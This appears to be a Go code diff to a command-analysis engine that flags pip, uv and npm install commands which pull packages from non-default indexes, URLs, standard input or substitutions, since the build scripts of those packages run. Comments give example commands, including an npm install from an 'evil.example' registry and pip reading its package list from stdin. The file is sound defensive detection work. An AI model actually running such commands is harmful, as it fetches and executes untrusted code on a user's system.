@@ -271,6 +271,13 @@ func packageNames(prog string, verbs, installs, indexes map[string]bool, remote 
 		for i := 1; i < len(ws); i++ {
 			if ws[i] == "" || ws[i][0] == '-' {
 				name, val, attached := strings.Cut(ws[i], "=")
+				if list := requirementLists[prog]; list != nil && inputList(list, ws, i) {
+					// pip download -r /dev/stdin <<< '--index-url URL': the
+					// list, and the options in it, are the input's.
+					r.Effects |= EffExec | EffComputed
+					r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i, Why: prog + " " + whyInputList})
+					return
+				}
 				if !indexes[name] {
 					if indexOption(ws[i]) {
 						// --requirement=URL, --constraint=URL, --index=URL
@@ -285,7 +292,7 @@ func packageNames(prog string, verbs, installs, indexes map[string]bool, remote 
 					i++
 					val = ws[i]
 				}
-				if strings.Contains(val, "://") && !defaultIndex(val) {
+				if (strings.Contains(val, "://") || strings.HasPrefix(val, "//")) && !defaultIndex(val) {
 					// pip install -f http://h/ x, --index-url=…: the
 					// packages come from where the command says, and
 					// their build scripts run.
@@ -316,15 +323,52 @@ func packageNames(prog string, verbs, installs, indexes map[string]bool, remote 
 	}
 }
 
+// requirementLists are, per program, the options whose value is a file
+// listing packages, in which options (--index-url, -r, -e URL) may stand.
+var requirementLists = map[string]map[string]bool{
+	"pip": words("-r", "--requirement", "-c", "--constraint"),
+	"uv":  words("-r", "--requirement", "-c", "--constraint", "--overrides", "--build-constraints", "-b"),
+}
+
+// whyInputList is why a list of packages read from the command's input
+// or a substitution is judged.
+const whyInputList = "reads the list of packages it installs from its input or a substitution, whose lines may name any index or URL: code the engine cannot see"
+
+// inputList reports whether word i of ws is one of the options in list
+// whose value (attached, or the next word) is standard input or a
+// substitution: -r /dev/stdin, -r -, --requirement=<(…), -r/dev/fd/0.
+func inputList(list map[string]bool, ws []string, i int) bool {
+	w := ws[i]
+	var val string
+	switch name, v, eq := strings.Cut(w, "="); {
+	case eq && list[name]:
+		val = v
+	case list[w] && i+1 < len(ws):
+		val = ws[i+1]
+	case len(w) > 2 && w[1] != '-' && list[w[:2]]:
+		val = w[2:] // -r/dev/stdin
+	default:
+		return false
+	}
+	switch strings.TrimRight(val, "/") {
+	case "-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0":
+		return true
+	}
+	return strings.HasPrefix(val, "<(") || strings.HasPrefix(val, "/dev/fd/") || strings.HasPrefix(val, "/proc/self/fd/")
+}
+
 // indexOption reports an option word that carries a URL other than the
 // default index's (--index=URL, --@s:registry=URL, -iURL, --proxy=URL):
 // whatever the option's spelling, a URL in it names where packages, or
 // the list of them, come from, and their build or install scripts run.
 func indexOption(w string) bool {
-	if w == "" || w[0] != '-' || !strings.Contains(w, "://") {
+	if w == "" || w[0] != '-' {
 		return false
 	}
 	_, val, _ := strings.Cut(w, "=")
+	if !strings.Contains(w, "://") && !strings.HasPrefix(val, "//") {
+		return false // (--registry=//host/ is a URL of the scheme in use)
+	}
 	return !defaultIndex(val)
 }
 
@@ -375,15 +419,9 @@ const whyRemoteInstall = "installs a package fetched from a URL or a git reposit
 func remoteInstall(r *Result, words []string) {
 	installs := false
 	for _, it := range r.Items {
-		installs = installs || it.Spec != nil && (npmInstallVerbs[it.Spec.Name] || npmFetchVerbs[it.Spec.Name])
-	}
-	for _, w := range words[1:] {
-		if w != "" && w[0] != '-' {
-			// npm ci --proxy=URL: the command has no operand to say so.
-			v := npmResolve(w)
-			installs = installs || npmInstallVerbs[v] || npmFetchVerbs[v]
-			break
-		}
+		// (The subcommand's own item: npm ci --proxy=URL has no operand.)
+		installs = installs || it.Spec != nil && (npmInstallVerbs[it.Spec.Name] || npmFetchVerbs[it.Spec.Name]) ||
+			it.Kind == KindSubcommand && (npmInstallVerbs[npmResolve(it.Text)] || npmFetchVerbs[npmResolve(it.Text)])
 	}
 	if !installs {
 		return
@@ -398,7 +436,7 @@ func remoteInstall(r *Result, words []string) {
 		}
 	}
 	for _, it := range r.Items {
-		if it.Kind == KindValue && it.Opt != nil && slices.Contains(it.Opt.Long, "registry") && (it.Computed || strings.Contains(it.Text, "://") && !defaultIndex(it.Text)) {
+		if it.Kind == KindValue && it.Opt != nil && slices.Contains(it.Opt.Long, "registry") && (it.Computed || !defaultIndex(it.Text)) {
 			// npm i --registry https://evil.example/ x: the packages come
 			// from where the command says.
 			r.Effects |= EffExec | EffComputed
